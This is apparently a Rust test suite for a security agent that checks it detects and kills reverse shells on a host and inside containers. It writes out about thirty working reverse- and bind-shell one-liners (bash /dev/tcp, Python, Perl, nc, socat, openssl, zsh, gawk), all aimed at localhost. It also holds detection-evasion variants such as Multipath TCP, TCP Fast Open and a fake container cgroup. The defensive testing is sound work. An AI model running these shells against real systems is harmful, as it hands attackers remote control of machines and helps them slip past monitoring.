//! Reverse shells, each on the host and in a container, with its programs under their own names and
//! under others: a shell is found once, as what it is, and dies where the agent may act.

use std::{
    fs,
    path::{Path, PathBuf},
};
use vedette_tests::{
    agent::{Agent, Finding, PATIENCE, Stopped, summary},
    http::free_port,
    listener::{FIRST_COMMAND_AFTER, Wire},
    need::Need,
    process::{alive, wait_for},
    remote_shell::RemoteShell,
    require,
    tools::{Names, Place, Tools},
    workspace,
};

/// Whom the finding may be about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Subject {
    /// The shell that answers.
    Shell,
    /// The shell that answers or the interpreter that runs it: either has the remote end at its
    /// standard streams.
    ShellOrInterpreter,
}

/// One way to get a shell.
struct Attack {
    wire: Wire,
    subject: Subject,
    /// Until the first command comes it is a client that reads from its server, as an honest one
    /// may: only what it does with that command makes it a shell.
    born_of_a_command: bool,
    /// Programs beyond those that every machine has.
    needs: &'static [&'static str],
    /// The script for these tools that reaches back to the port.
    script: fn(&Tools, u16) -> String,
}

impl Attack {
    const fn new(needs: &'static [&'static str], script: fn(&Tools, u16) -> String) -> Self {
        Self {
            wire: Wire::Clear,
            subject: Subject::Shell,
            born_of_a_command: false,
            needs,
            script,
        }
    }

    const fn by_an_interpreter(mut self) -> Self {
        self.subject = Subject::ShellOrInterpreter;
        self
    }

    const fn born_of_a_command(mut self) -> Self {
        self.born_of_a_command = true;
        self
    }

    const fn over_tls(mut self) -> Self {
        self.wire = Wire::Tls;
        self
    }

    fn start(&self, place: Place, names: Names) -> RemoteShell {
        RemoteShell::start(place, names, self.wire, self.script)
    }
}

const BASH_REDIRECTED: Attack = Attack::new(&["bash"], |tools, port| {
    let bash = tools.get("bash");
    format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
});

const BASH_READ_LOOP: Attack = Attack::new(&["bash"], |tools, port| {
    let bash = tools.get("bash");
    format!(
        r#"{bash} -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; while read -r line <&5; do eval "$line" >&5 2>&5; done'"#
    )
})
.born_of_a_command();

const PYTHON: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.create_connection(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

const PYTHON_TERMINAL: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,pty,os
s=socket.create_connection(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
pty.spawn("{sh}")'"#
    )
})
.by_an_interpreter();

const PYTHON_PIPES: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,threading
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)'"#
    )
});

/// By Multipath TCP, where the kernel has it.
const PYTHON_MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
try: s=socket.socket(2,1,262)
except OSError: s=socket.socket()
s.connect(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

/// With MSG_FASTOPEN: no call connects.
const PYTHON_FAST_OPEN: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.socket()
s.sendto(b"here\n",0x20000000,("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

/// After more refused connections than a table of all the machine's would hold.
const PYTHON_AFTER_A_STORM: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.create_connection(("127.0.0.1",{port}))
n=socket.socket();n.bind(("127.0.0.1",0));nowhere=n.getsockname()
for i in range(10000):
    with socket.socket() as r: r.connect_ex(nowhere)
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

const PERL: Attack = Attack::new(&["perl"], |tools, port| {
    let (perl, sh) = (tools.get("perl"), tools.get("sh"));
    format!(
        r#"{perl} -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")||6);
if(connect(S,sockaddr_in({port},inet_aton("127.0.0.1")))){{
open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("{sh} -i");}}'"#
    )
})
.by_an_interpreter();

const FIFO_NC: Attack = Attack::new(&["nc"], |tools, port| {
    let [mkfifo, cat, sh, nc] = ["mkfifo", "cat", "sh", "nc"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {cat} {fifo} | {sh} -i 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
});

const FIFO_BUSYBOX: Attack = Attack::new(&["busybox"], |tools, port| {
    let busybox = tools.get("busybox");
    let fifo = tools.scratch("f");
    format!(
        "{busybox} mkfifo {fifo}; {busybox} nc 127.0.0.1 {port} < {fifo} | {busybox} sh > {fifo} 2>&1"
    )
});

const BUSYBOX_EXEC: Attack = Attack::new(&["busybox"], |tools, port| {
    let (busybox, sh) = (tools.get("busybox"), tools.get("sh"));
    format!("{busybox} nc 127.0.0.1 {port} -e {sh}")
});

const SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh) = (tools.get("socat"), tools.get("sh"));
    format!("{socat} TCP:127.0.0.1:{port} EXEC:{sh}")
});

const SOCAT_TERMINAL: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, bash) = (tools.get("socat"), tools.get("bash"));
    format!("{socat} EXEC:'{bash} -i',pty,stderr,setsid,sigint,sane TCP:127.0.0.1:{port}")
});

const OPENSSL: Attack = Attack::new(&["openssl"], |tools, port| {
    let [mkfifo, sh, openssl] = ["mkfifo", "sh", "openssl"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {sh} -i < {fifo} 2>&1 | {openssl} s_client -quiet -connect 127.0.0.1:{port} > {fifo}")
})
.over_tls();

const COMPILED: Attack = Attack::new(&["cc"], |tools, port| {
    let (reverse, sh) = (tools.program("reverse"), tools.get("sh"));
    format!("{reverse} {port} {sh}")
});

const COMPILED_PIPES: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} pipes")
});

const COMPILED_THREADS: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} threads")
});

const COMPILED_SOCKETPAIR: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} socketpair")
});

const TWO_CONNECTIONS: Attack = Attack::new(&["nc"], |tools, port| {
    let [sleep, nc, sh] = ["sleep", "nc", "sh"].map(|name| tools.get(name));
    format!("{sleep} 60 | {nc} 127.0.0.1 {port} | {sh} | {nc} 127.0.0.1 {port}")
});

const ZSH: Attack = Attack::new(&["zsh"], |tools, port| {
    let zsh = tools.get("zsh");
    format!(
        "{zsh} -fc 'zmodload zsh/net/tcp; ztcp 127.0.0.1 {port}; {zsh} -f <&$REPLY >&$REPLY 2>&$REPLY'"
    )
});

const GAWK: Attack = Attack::new(&["gawk"], |tools, port| {
    let (gawk, sh) = (tools.get("gawk"), tools.get("sh"));
    format!(
        r#"{gawk} 'BEGIN{{s="/inet/tcp/0/127.0.0.1/{port}"
while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
    )
})
.born_of_a_command();

/// An interpreter's own options, and a way to standard input that nobody writes.
const ODD_ARGUMENTS: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, bash) = (tools.get("python3"), tools.get("bash"));
    format!(
        r#"{python} -W ignore -c 'import socket,subprocess,threading
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{bash}","-norc","/dev/fd/../fd/0"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)'"#
    )
});

/// What the shell reads is a file to it.
const SUBSTITUTED: Attack = Attack::new(&["nc"], |tools, port| {
    let [bash, sleep, nc] = ["bash", "sleep", "nc"].map(|name| tools.get(name));
    format!("{bash} -c '{bash} <({sleep} 60 | {nc} 127.0.0.1 {port}) | {nc} 127.0.0.1 {port}'")
});

/// The same, as a fifo.
const FIFO_AS_SCRIPT: Attack = Attack::new(&["nc"], |tools, port| {
    let [mkfifo, bash, nc] = ["mkfifo", "bash", "nc"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {bash} {fifo} 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
});

/// A protocol that the kernel does not count as TCP.
const MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,os
try: s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262)
except OSError: s=socket.socket()
s.connect(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
os.execv("{sh}",["{sh}"])'"#
    )
})
.by_an_interpreter();

/// The remote end's connection to a port on which a shell is waited with.
fn call(tools: &Tools, bound: u16, port: u16) -> String {
    let socat = tools.get("socat");
    format!("{socat} TCP:127.0.0.1:{bound},retry=100,interval=0.1 TCP:127.0.0.1:{port}")
}

const BOUND_SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork EXEC:{sh} &\n{call}")
});

const BOUND_SOCAT_ONCE: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, bash, bound) = (tools.get("socat"), tools.get("bash"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr EXEC:'{bash} -norc',pipes &\n{call}")
});

const BOUND_SOCAT_COMMAND: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork SYSTEM:'exec {sh}' &\n{call}")
});

const BOUND_PYTHON: Attack = Attack::new(&["python3", "socat"], |tools, port| {
    let (python, sh, bound) = (tools.get("python3"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!(
        r#"{python} -c 'import socket,subprocess,threading
l=socket.create_server(("127.0.0.1",{bound}))
s,_=l.accept()
p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.PIPE,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)' &
{call}"#
    )
});

/// Without any agent: an attack that yields no shell would prove nothing.
fn control(attack: &Attack, place: Place, names: Names) {
    let shell = attack.start(place, names);
    assert!(
        shell.shell(PATIENCE).is_some(),
        "the attack itself does not work ({place:?}, {names:?} names): {}",
        shell.log()
    );
}

/// What is known of one shell after it was observed.
struct Observed {
    what: String,
    shell: u32,
    root: u32,
    processes: Vec<u32>,
    container: Option<String>,
}

fn observe(agent: &Agent, attack: &Attack, place: Place, names: Names) -> Observed {
    let what = format!("{place:?}, {names:?} names");
    let running = attack.start(place, names);
    let shell = running.shell(PATIENCE);
    let shell =
        shell.unwrap_or_else(|| panic!("the attack does not work ({what}): {}", running.log()));
    let processes = running.processes();
    agent.expect(
        &format!("{what}, shell {shell} out of {processes:?}"),
        |finding| {
            finding.category() == "reverse-shell"
                && finding.pid().is_some_and(|pid| processes.contains(&pid))
        },
    );
    let observed = Observed {
        what,
        shell,
        root: running.root(),
        container: running.container().map(str::to_owned),
        processes,
    };
    drop(running);
    observed
}

fn judge_observed(observed: &Observed, attack: &Attack, stopped: &Stopped) {
    let Observed {
        what,
        shell,
        root,
        processes,
        container,
    } = observed;
    let about = |finding: &&Finding| {
        finding
            .pid()
            .is_some_and(|pid| processes.contains(&pid) || pid == *shell)
    };
    let all: Vec<_> = stopped.findings.iter().filter(about).collect();
    let said: Vec<_> = all.iter().map(|finding| summary(finding)).collect();
    assert_eq!(
        all.len(),
        1,
        "one finding a shell ({what}, shell {shell}): {said:#?}"
    );
    let finding = all[0];
    let pid = finding.pid().expect("it was found by its pid");
    let right =
        pid == *shell || attack.subject == Subject::ShellOrInterpreter && processes.contains(&pid);
    assert!(
        right,
        "the finding is about the shell {shell} ({what}): {said:#?}"
    );
    assert_eq!(finding.category(), "reverse-shell", "{what}: {said:#?}");
    assert_eq!(
        finding.container(),
        container.as_deref(),
        "{what}: {said:#?}"
    );
    assert!(
        finding.ancestors().contains(root),
        "{root} is an ancestor ({what}): {said:#?}"
    );
    assert!(
        !finding.killed(),
        "an observer does nothing ({what}): {}",
        finding.json
    );
    let evidence = finding
        .json
        .pointer("/evidence")
        .and_then(|evidence| evidence.as_array());
    assert!(
        evidence.is_some_and(|evidence| !evidence.is_empty()),
        "there is evidence ({what}): {}",
        finding.json
    );
}

fn enforce(agent: &Agent, attack: &Attack, place: Place, names: Names) {
    let what = format!("enforcing, {place:?}, {names:?} names");
    // That it connects was seen without an agent; here it can be dead before both ends of a TLS
    // connection have agreed on their keys.
    let running = attack.start(place, names);
    let (root, container) = (running.root(), running.container());
    let finding = agent.expect(&what, |finding| {
        let ours = finding.container() == container && finding.ancestors().contains(&root);
        finding.category() == "reverse-shell" && ours
    });
    let pid = finding.pid().expect("a reverse shell has a process");
    let dead = wait_for(PATIENCE, || (!alive(pid)).then_some(()));
    assert!(
        dead.is_some(),
        "the shell {pid} is dead ({what}): {}",
        finding.json
    );
    // Until well after the remote end has sent its command.
    let reply = running.listener().reply(20 * FIRST_COMMAND_AFTER);
    assert!(
        reply.is_none() || attack.born_of_a_command,
        "the remote end gets no answer ({what}): {}",
        running.log()
    );
    assert!(
        finding.killed(),
        "what was done is in the finding ({what}): {}",
        finding.json
    );
}

fn found_once_and_killed(attack: &Attack, place: Place) {
    for tool in attack.needs {
        require!(Need::Tool(tool));
    }
    require!(Need::Root, Need::Tool("setsid"));
    if place == Place::Container {
        require!(Need::Tool("runc"), Need::Tool("busybox"));
    }
    let _alone = workspace::alone();
    for names in [Names::Own, Names::Others] {
        control(attack, place, names);
    }
    require!(Need::Agent, Need::Kernel);

    let agent = Agent::observing();
    let observed = [Names::Own, Names::Others].map(|names| observe(&agent, attack, place, names));
    let stopped = agent.stop();
    for observed in &observed {
        judge_observed(observed, attack, &stopped);
    }

    let agent = Agent::enforcing();
    for names in [Names::Own, Names::Others] {
        enforce(&agent, attack, place, names);
    }
    let stopped = agent.stop();
    let accusations = stopped.accusations();
    assert_eq!(
        accusations.len(),
        2,
        "one finding a shell where it is killed: {accusations:#?}"
    );
}

macro_rules! everywhere {
    ($($name:ident => $attack:ident),+ $(,)?) => {
        mod host {
            use super::*;
            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Host); })+
        }
        mod container {
            use super::*;
            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Container); })+
        }
    };
}

everywhere! {
    bash_redirected => BASH_REDIRECTED,
    bash_read_loop => BASH_READ_LOOP,
    python => PYTHON,
    python_terminal => PYTHON_TERMINAL,
    python_pipes => PYTHON_PIPES,
    python_multipath => PYTHON_MULTIPATH,
    python_fast_open => PYTHON_FAST_OPEN,
    python_after_a_storm => PYTHON_AFTER_A_STORM,
    perl => PERL,
    fifo_nc => FIFO_NC,
    fifo_busybox_nc => FIFO_BUSYBOX,
    busybox_nc_exec => BUSYBOX_EXEC,
    socat => SOCAT,
    socat_terminal => SOCAT_TERMINAL,
    openssl => OPENSSL,
    compiled => COMPILED,
    compiled_relay_by_pipes => COMPILED_PIPES,
    compiled_relay_by_threads => COMPILED_THREADS,
    compiled_relay_by_socketpair => COMPILED_SOCKETPAIR,
    two_connections => TWO_CONNECTIONS,
    zsh => ZSH,
    gawk => GAWK,
    odd_arguments => ODD_ARGUMENTS,
    substituted => SUBSTITUTED,
    fifo_as_script => FIFO_AS_SCRIPT,
    multipath => MULTIPATH,
    bound_by_socat => BOUND_SOCAT,
    bound_by_socat_once => BOUND_SOCAT_ONCE,
    bound_by_socat_with_a_command => BOUND_SOCAT_COMMAND,
    bound_by_python => BOUND_PYTHON,
}

/// Control groups of one name in every hierarchy. Dropped, they are removed.
struct Groups(Vec<PathBuf>);

impl Groups {
    fn make(name: &str) -> Self {
        let root = Path::new("/sys/fs/cgroup");
        // Both of a mixed machine's; the unified one alone lies at the root.
        let hierarchies = ["unified", "pids", ""].map(|hierarchy| root.join(hierarchy));
        let at = |hierarchy: &PathBuf| {
            let group = hierarchy.join(name);
            let is_one = hierarchy.join("cgroup.procs").exists();
            (is_one && fs::create_dir(&group).is_ok()).then_some(group)
        };
        Self(hierarchies.iter().filter_map(at).collect())
    }
}

impl Drop for Groups {
    fn drop(&mut self) {
        for group in &self.0 {
            // What was in it is being ended.
            wait_for(PATIENCE, || fs::remove_dir(group).ok());
        }
    }
}

/// The relay stays outside, as a container's runtime does.
#[test]
fn in_a_group_that_only_looks_like_a_container() {
    require!(Need::Root, Need::Tool("setsid"), Need::Tool("python3"));
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let groups = Groups::make(&"5e".repeat(32));
    let files: Vec<_> = groups
        .0
        .iter()
        .map(|group| group.join("cgroup.procs"))
        .collect();
    assert!(!files.is_empty(), "this machine has control groups");
    let agent = Agent::observing();
    let shell = RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let (python, sh) = (tools.get("python3"), tools.get("sh"));
        let relay = tools.layer().join("relay.py");
        let script = format!(
            r#"import socket,subprocess,threading,os
def move():
    for file in {files:?}: open(file,"w").write(str(os.getpid()))
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{sh}"],preexec_fn=move,stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)
"#
        );
        fs::write(&relay, script).expect("an own directory");
        format!("{python} {}", relay.display())
    });
    let pid = shell.shell(PATIENCE);
    let pid = pid.unwrap_or_else(|| panic!("the attack does not work: {}", shell.log()));
    // A runtime would have time to describe its container.
    let found = || (agent.findings().into_iter()).find(|finding| finding.pid() == Some(pid));
    let finding = wait_for(3 * PATIENCE, found)
        .unwrap_or_else(|| panic!("it is not found: {}", agent.describe()));
    assert_eq!(finding.category(), "reverse-shell", "{}", finding.json);
    drop(shell);
    drop(groups);
    agent.stop();
}
